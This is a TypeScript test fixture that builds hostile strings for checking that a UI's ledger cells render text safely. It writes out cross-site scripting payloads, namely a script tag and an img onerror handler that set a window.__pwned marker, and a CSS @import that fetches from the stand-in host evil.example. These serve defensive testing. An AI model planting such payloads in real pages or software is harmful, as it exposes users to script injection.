/**
 * The hostile strings of UI part 1's body corpus (hostile-corpus.ts), taken back out of their HTML wrappers so
 * they can be written into ledger text columns: markup that would run script (window.__pwned / alert) or fetch
 * from evil.example if rendered as markup, bidi overrides, zero-width characters, ANSI/OSC escapes and control
 * characters; plus a few this corpus adds for names shown in cells: very long strings and CSS @import.
 */
import { hostileCorpus } from '../hostile-corpus.js';

const td = new TextDecoder();
const WRAPPED = /^<!doctype html><html><head><title>t<\/title><\/head><body>([\s\S]*)<\/body><\/html>$/;

/** The marker every script payload bumps; the test reads it back. */
export const PWN_FLAG = '__pwned';

/** One hostile string and where it came from (for messages). */
export interface HostileString {
  readonly name: string;
  readonly text: string;
}

/** A 6,000-character string with no break opportunity: a layout stress test for every cell and label. */
export const LONG_UNBROKEN = `${'W'.repeat(3000)}<script>window.${PWN_FLAG}=(window.${PWN_FLAG}||0)+1</script>${'M'.repeat(2940)}`;

/** A long path whose segments are markup (file names carry anything but '/' and NUL). */
export const LONG_PATH = `/workspace/${Array.from({ length: 40 }, (_, i) => `dir-${i}-<img src=x onerror="window.${PWN_FLAG}=1">`).join('/')}/file.txt`;

export function hostileStrings(): HostileString[] {
  const out: HostileString[] = [];
  for (const body of hostileCorpus()) {
    const text = td.decode(body.bytes);
    if (body.name.startsWith('markup-')) {
      const m = WRAPPED.exec(text);
      if (!m) throw new Error(`hostile-strings: ${body.name} is not wrapped the way hostile-corpus.ts wraps markup`);
      out.push({ name: body.name, text: m[1]! });
    } else if (body.name.startsWith('hidden-')) {
      out.push({ name: body.name, text });
    }
  }
  out.push({ name: 'css-import-rule', text: `<style>@import url("http://evil.example/import2.css");</style>` });
  out.push({ name: 'long-unbroken', text: LONG_UNBROKEN });
  out.push({ name: 'long-path', text: LONG_PATH });
  return out;
}

/** Hands out hostile strings in order, cycling; `label` makes each value unique (identity columns must stay distinct). */
export class HostileCursor {
  private i = 0;
  constructor(private readonly pool: readonly HostileString[]) {}
  next(label: string): string {
    const s = this.pool[this.i++ % this.pool.length]!;
    return `${s.text} ‹${label}›`;
  }
}
